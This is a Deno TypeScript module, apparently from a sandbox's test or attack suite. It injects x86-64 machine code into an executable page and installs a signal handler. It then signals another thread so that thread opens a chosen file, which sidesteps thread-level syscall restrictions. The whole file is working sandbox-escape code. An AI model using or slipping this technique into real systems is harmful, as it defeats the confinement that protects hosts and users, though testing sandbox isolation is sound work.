/** Attacks as machine code in the process: makes another thread open a file, by a signal and its handler. On x86-64. */

import type { Syscalls } from "../../runtime/sandbox/kernel/kernel_calls.ts";

// mov 24(%rsi), %r9; mov $257, %eax; mov $-100, %edi; mov (%r9), %rsi; xor %edx, %edx; syscall; mov %eax, 8(%r9); ret
// mov $15, %eax; syscall
const HANDLER = [
  ...[0x4c, 0x8b, 0x4e, 0x18, 0xb8, 0x01, 0x01, 0x00, 0x00, 0xbf, 0x9c, 0xff, 0xff, 0xff, 0x49, 0x8b, 0x31],
  ...[0x31, 0xd2, 0x0f, 0x05, 0x41, 0x89, 0x41, 0x08, 0xc3, 0xb8, 0x0f, 0x00, 0x00, 0x00, 0x0f, 0x05],
];
const RETURN_AT = 26;
const SIGNAL = 50;
const PENDING = -9999;

/** The process's other threads. */
export function otherThreads(): number[] {
  return [...Deno.readDirSync("/proc/self/task")].map(({ name }) => Number(name)).filter((id) =>
    id !== Deno.pid
  );
}

/** Makes a thread open a path for reading. Returns the descriptor or a negative errno. */
export function callOnThread(system: Syscalls, thread: number, path: string): number {
  const { numbers, view, address, scratch } = system;
  const page = system.call(numbers.mmap, 0, 4096, 3, 0x22, -1, 0);
  new Uint8Array(Deno.UnsafePointerView.getArrayBuffer(Deno.UnsafePointer.create(page)!, 4096)).set(HANDLER);
  system.call(numbers.mprotect, page, 4096, 5);
  view.setBigUint64(0, page, true);
  view.setBigUint64(8, 0x14000004n, true); // SA_SIGINFO, SA_RESTORER, SA_RESTART
  view.setBigUint64(16, page + BigInt(RETURN_AT), true);
  view.setBigUint64(24, 0n, true);
  if (system.call(numbers.rtSigaction, SIGNAL, address, 0, 8) !== 0n) throw new Error("no handler");
  const slot = new Uint8Array(4096);
  const slotAt = BigInt(Deno.UnsafePointer.value(Deno.UnsafePointer.of(slot)));
  new TextEncoder().encodeInto(path, slot.subarray(64));
  const slotView = new DataView(slot.buffer);
  slotView.setBigUint64(0, slotAt + 64n, true);
  const answer = new Int32Array(slot.buffer, 8, 1);
  answer[0] = PENDING;
  scratch.fill(0, 128, 256);
  view.setInt32(128, SIGNAL, true);
  view.setInt32(136, -1, true);
  view.setBigUint64(152, slotAt, true);
  if (system.call(numbers.rtTgsigqueueinfo, Deno.pid, thread, SIGNAL, address + 128n) !== 0n) return -3;
  while (Atomics.load(answer, 0) === PENDING) system.call(numbers.schedYield);
  return answer[0];
}
